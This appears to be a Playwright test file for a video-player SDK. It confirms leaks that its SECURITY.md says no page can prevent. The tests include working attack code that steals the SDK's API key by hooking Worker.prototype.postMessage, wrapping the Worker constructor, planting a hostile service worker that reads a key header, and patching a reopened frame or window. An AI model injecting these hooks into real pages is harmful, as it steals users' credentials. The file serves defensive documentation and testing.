/** What no page can defend against, and SECURITY.md says so. A test that fails here means that the document is wrong. */
import type { Page } from "@playwright/test";

import { expect, test } from "../../support/test.ts";

/** Makes a client and a token, in the most careful way that there is. */
async function mint(page: Page, access: object): Promise<void> {
  await page.evaluate(async (options) => {
    const { createClient } = await import("@ansdev/player");
    const client = await createClient({ ...options, isolation: "worker" } as never);
    await (await client.openSession("vid_clear")).getToken();
  }, access);
}

async function stolen(page: Page): Promise<string> {
  return page.evaluate(() => (window as unknown as { stolen: string }).stolen);
}

test("known leak: a script that ran before the SDK and replaced postMessage", async ({ page, mock, site }) => {
  await page.addInitScript(() => {
    // eslint-disable-next-line @typescript-eslint/unbound-method -- called with its own `this`
    const { postMessage } = Worker.prototype;
    Worker.prototype.postMessage = function (message: { key?: Uint8Array }, ...rest: unknown[]) {
      if (message.key) Object.assign(window, { stolen: new TextDecoder().decode(message.key) });
      postMessage.call(this, message, ...(rest as []));
    };
  });
  await page.goto(site.page("blank.html"));
  await mint(page, mock.access);
  expect(await stolen(page)).toBe(mock.apiKey);
});

test("known leak: a script that ran before the SDK and replaced Worker", async ({ page, mock, site }) => {
  await page.addInitScript(() => {
    window.Worker = class extends Worker {
      constructor(url: string | URL) {
        const hostile = `onmessage = ({ data }) => {
          if (data.key) postMessage(new TextDecoder().decode(data.key));
        }; importScripts(${JSON.stringify(String(url))});
        const own = onmessage; onmessage = (event) => {
          if (event.data.key) postMessage(new TextDecoder().decode(event.data.key));
          own(event);
        };`;
        super(URL.createObjectURL(new Blob([hostile])));
        this.addEventListener("message", ({ data }) => Object.assign(window, { stolen: data as string }));
      }
    };
  });
  await page.goto(site.page("blank.html"));
  await mint(page, mock.access);
  await expect.poll(() => stolen(page)).toBe(mock.apiKey);
});

test("known leak: a hostile service worker", async ({ page, mock, site }) => {
  site.route("/hostile-sw.js", (_request, response) => {
    response.writeHead(200, { "content-type": "text/javascript" }).end(`
      oninstall = () => skipWaiting();
      onactivate = (event) => event.waitUntil(clients.claim());
      onfetch = ({ request }) => {
        const key = request.headers.get("x-ansdev-key");
        if (key) new BroadcastChannel("stolen").postMessage(key);
      };`);
  });
  await page.goto(site.page("blank.html"));
  await page.evaluate(async () => {
    new BroadcastChannel("stolen").onmessage = ({ data }) => Object.assign(window, { stolen: data as string });
    const controlled = new Promise((resolve) => {
      navigator.serviceWorker.oncontrollerchange = resolve;
    });
    await navigator.serviceWorker.register("/hostile-sw.js");
    await controlled;
  });
  await mint(page, mock.access);
  await expect.poll(() => stolen(page)).toBe(mock.apiKey);
});

/** Opens the page once more, and replaces `postMessage` there before its scripts run. */
async function openAgain(page: Page, where: "frame" | "window"): Promise<void> {
  await page.evaluate(async (place) => {
    const frame = document.createElement("iframe");
    if (place === "frame") document.body.append(frame);
    frame.src = location.href;
    const opened = place === "window" ? window.open(location.href) : frame.contentWindow;
    const { port1, port2 } = new MessageChannel();
    const seen = new WeakSet();
    await new Promise<void>((resolve) => {
      const until = performance.now() + 5_000;
      port1.onmessage = () => {
        let Foreign: typeof Worker | undefined;
        try {
          ({ Worker: Foreign } = (opened ?? {}) as Partial<typeof globalThis>);
        } catch {
          // The browser's own page, which says that it may not be framed.
        }
        if (Foreign && !seen.has(Foreign)) {
          seen.add(Foreign);
          // eslint-disable-next-line @typescript-eslint/unbound-method -- called with its own `this`
          const { postMessage } = Foreign.prototype;
          Foreign.prototype.postMessage = function (this: Worker, message: { key?: Uint8Array }, ...rest: unknown[]) {
            if (message.key) Object.assign(window, { stolen: new TextDecoder().decode(message.key) });
            postMessage.call(this, message, ...(rest as []));
          };
        }
        if ("stolen" in window || performance.now() > until) resolve();
        else port2.postMessage(0);
      };
      port2.postMessage(0);
    });
  }, where);
}

test("known leak: the same page, opened again and attacked before its SDK runs", async ({ page, mock, site }) => {
  for (const where of ["frame", "window"] as const) {
    site.pageHeaders = {};
    await page.goto(site.page("strict.html", mock.access));
    await openAgain(page, where);
    expect(await stolen(page), where).toBe(mock.apiKey);
    // What SECURITY.md advises.
    site.pageHeaders = {
      "content-security-policy": "frame-ancestors 'none'",
      "cross-origin-opener-policy": "noopener-allow-popups",
    };
    await page.goto(site.page("strict.html", mock.access));
    await openAgain(page, where).catch(() => undefined);
    expect(await stolen(page), where).toBeUndefined();
  }
});

test("known leak: the network panel", async ({ page, mock, site }) => {
  const shown: string[] = [];
  // What Playwright tells of requests is what the panel shows.
  page.context().on("request", (request) => {
    void request.allHeaders().then((headers) => shown.push(headers["x-ansdev-key"] ?? ""));
  });
  await page.goto(site.page("blank.html"));
  await mint(page, mock.access);
  await expect.poll(() => shown).toContain(mock.apiKey);
});

test("known leak: tokens, which every script of the page can ask for", async ({ page, mock, site }) => {
  await page.goto(site.page("blank.html"));
  await mint(page, mock.access);
  const isShown = await page.evaluate(async (access) => {
    const { createClient } = await import("@ansdev/player");
    const session = await (await createClient(access)).openSession("vid_clear");
    const token = await session.getToken();
    const shown = new Promise<boolean>((resolve) => {
      new PerformanceObserver((list) => {
        if (list.getEntries().some(({ name }) => name.includes(token))) resolve(true);
      }).observe({ type: "resource" });
    });
    await (await fetch(await session.manifestUrl())).text();
    return shown;
  }, mock.access);
  expect(isShown).toBe(true);
});
